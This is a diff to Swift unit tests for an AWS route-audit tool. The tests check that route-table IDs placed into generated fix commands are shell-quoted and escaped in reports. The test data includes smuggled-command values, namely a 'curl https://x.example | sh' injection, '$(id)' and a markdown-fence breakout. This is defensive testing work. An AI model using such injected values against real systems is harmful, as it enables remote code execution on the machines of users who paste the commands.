@@ -42,12 +42,12 @@ struct FixCommandsTests {
         let input = Self.missingReturnRoute(tableId: Self.hostileId)
         let finding = try #require(input.result.findings.first { $0.caseId == PeeringRoutesRule.missingReturnRoute.id })
         let command = try #require(finding.fixCommands.first)
-        #expect(command.contains("--route-table-id \(Self.hostileId) "))
+        #expect(command.contains("--route-table-id '\(Self.hostileId)' "))
         // The newline is shown, not kept (`TerminalText.escape`): the command stays one line.
         let lines = MarkdownReport.render(input).split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
         #expect(!lines.contains { $0.hasPrefix("# owned") })
         let open = try #require(lines.firstIndex(of: "  `````sh"))
-        #expect(lines[open + 1].hasPrefix("  aws ec2 create-route --region us-east-1 --route-table-id rtb-```\\u{A}# owned\\u{A}````x "))
+        #expect(lines[open + 1].hasPrefix("  aws ec2 create-route --region us-east-1 --route-table-id 'rtb-```\\u{A}# owned\\u{A}````x' "))
         #expect(lines[open + 2] == "  `````")
     }
 
@@ -68,5 +68,25 @@ struct FixCommandsTests {
             + "--vpc-peering-connection-id pcx-1"
         #expect(JUnitReport.render(input).contains("Run the command in account 222222222222.\n    \(command)\n"))
         #expect(SARIFReport.render(input).contains("Run the command in account 222222222222.\\n\(command)"))
+    }
+}
+
+/// Ids in fix commands come from the snapshot: a hostile one stays one shell word when pasted.
+struct FixCommandQuotingTests {
+    @Test func aHostileIdIsOneQuotedShellWord() throws {
+        let input = FixCommandsTests.missingReturnRoute(tableId: "rtb-1; curl https://x.example | sh; echo 'a'")
+        let finding = try #require(input.result.findings.first { $0.caseId == PeeringRoutesRule.missingReturnRoute.id })
+        #expect(finding.fixCommands.first?.contains("--route-table-id 'rtb-1; curl https://x.example | sh; echo '\\''a'\\''' ") == true,
+                "\(finding.fixCommands)")
+    }
+
+    @Test func plainIdsAndPlaceholdersStayAsTheyAre() {
+        #expect(AWSCommand.quoted("tgw-attach-0a1b") == "tgw-attach-0a1b")
+        #expect(AWSCommand.quoted("us-east-1") == "us-east-1")
+        #expect(AWSCommand.quoted(AWSCommand.placeholder("attachment-id")) == "<attachment-id>")
+        // A snapshot value spelled like a placeholder is still quoted: `<` and `>` would redirect.
+        #expect(AWSCommand.quoted("<attachment-id>") == "'<attachment-id>'")
+        #expect(AWSCommand.quoted("$(id)") == "'$(id)'")
+        #expect(AWSCommand.quoted("") == "''")
     }
 }
